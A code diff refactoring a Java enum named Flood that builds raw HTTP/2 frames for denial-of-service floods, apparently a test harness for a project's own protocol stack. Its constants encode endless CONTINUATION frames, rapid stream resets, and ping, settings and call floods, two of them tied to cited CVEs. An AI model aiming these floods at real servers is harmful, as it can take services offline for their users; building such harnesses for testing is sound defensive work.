@@ -1,6 +1,6 @@
 package io.timecoin.attack;
 
-import static io.timecoin.attack.RawHttp2.encoded;
+import static io.timecoin.attack.Http2Frame.encoded;
 
 import java.io.IOException;
 import java.net.SocketException;
@@ -12,29 +12,42 @@ import java.util.function.IntFunction;
 public enum Flood {
     /** CVE-2026-33871: headers that never end. */
     EMPTY_CONTINUATIONS(
-            RawHttp2.encoded(RawHttp2.HEADERS, 0, 3, RawHttp2.headers("/x/y")),
-            _ -> encoded(RawHttp2.CONTINUATION, 0, 3)),
+            Http2Frame.encoded(
+                    Http2Frame.HEADERS, 0, 3, HeaderBlock.call("/x/y").toBytes()),
+            _ -> encoded(Http2Frame.CONTINUATION, 0, 3)),
     /** Each byte of a message in a frame of its own; the message is one that a link may send. */
     ONE_BYTE_DATA(
-            encoded(RawHttp2.DATA, 0, 1, RawHttp2.framed(1_000, new byte[0])),
-            _ -> encoded(RawHttp2.DATA, 0, 1, (byte) 7)),
-    EMPTY_DATA(_ -> encoded(RawHttp2.DATA, 0, 1)),
-    PADDED_DATA(_ -> encoded(RawHttp2.DATA, RawHttp2.PADDED, 1, (byte) 3, (byte) 0, (byte) 0, (byte) 0)),
-    PINGS(_ -> encoded(RawHttp2.PING, 0, 0, new byte[8])),
-    PING_ACKNOWLEDGEMENTS(_ -> encoded(RawHttp2.PING, RawHttp2.ACK, 0, new byte[8])),
-    SETTINGS(_ -> encoded(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 7})),
-    SETTINGS_ACKNOWLEDGEMENTS(_ -> encoded(RawHttp2.SETTINGS, RawHttp2.ACK, 0)),
-    WINDOW_UPDATES(_ -> encoded(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})),
-    PRIORITIES(_ -> encoded(RawHttp2.PRIORITY, 0, 1, new byte[] {0, 0, 0, 0, 7})),
+            encoded(Http2Frame.DATA, 0, 1, RawHttp2.framed(1_000, new byte[0])),
+            _ -> encoded(Http2Frame.DATA, 0, 1, (byte) 7)),
+    EMPTY_DATA(_ -> encoded(Http2Frame.DATA, 0, 1)),
+    PADDED_DATA(_ -> encoded(Http2Frame.DATA, Http2Frame.PADDED, 1, (byte) 3, (byte) 0, (byte) 0, (byte) 0)),
+    PINGS(_ -> encoded(Http2Frame.PING, 0, 0, new byte[8])),
+    PING_ACKNOWLEDGEMENTS(_ -> encoded(Http2Frame.PING, Http2Frame.ACK, 0, new byte[8])),
+    SETTINGS(_ -> encoded(Http2Frame.SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 7})),
+    SETTINGS_ACKNOWLEDGEMENTS(_ -> encoded(Http2Frame.SETTINGS, Http2Frame.ACK, 0)),
+    WINDOW_UPDATES(_ -> encoded(Http2Frame.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})),
+    PRIORITIES(_ -> encoded(Http2Frame.PRIORITY, 0, 1, new byte[] {0, 0, 0, 0, 7})),
     UNKNOWN_FRAMES(_ -> encoded(0x4d, 0, 0)),
     /** Calls that are reset as soon as they are opened. */
     RAPID_RESETS(i -> join(
-            encoded(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream(i), RawHttp2.headers(RawHttp2.EXCHANGE)),
-            encoded(RawHttp2.RST_STREAM, 0, stream(i), new byte[] {0, 0, 0, 8}))),
+            encoded(
+                    Http2Frame.HEADERS,
+                    Http2Frame.END_HEADERS,
+                    stream(i),
+                    HeaderBlock.call(HeaderBlock.LINK).toBytes()),
+            encoded(Http2Frame.RST_STREAM, 0, stream(i), new byte[] {0, 0, 0, 8}))),
     /** CVE-2026-47244: calls of a peer that never acknowledges the settings that would bound them. */
-    CALLS(i -> encoded(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream(i), RawHttp2.headers(RawHttp2.EXCHANGE))),
+    CALLS(i -> encoded(
+            Http2Frame.HEADERS,
+            Http2Frame.END_HEADERS,
+            stream(i),
+            HeaderBlock.call(HeaderBlock.LINK).toBytes())),
     /** Trailers of the call in hand, again and again. */
-    HEADERS(_ -> encoded(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, RawHttp2.headers(RawHttp2.EXCHANGE)));
+    HEADERS(_ -> encoded(
+            Http2Frame.HEADERS,
+            Http2Frame.END_HEADERS,
+            1,
+            HeaderBlock.call(HeaderBlock.LINK).toBytes()));
 
     private static final int AT_ONCE = 100;
 
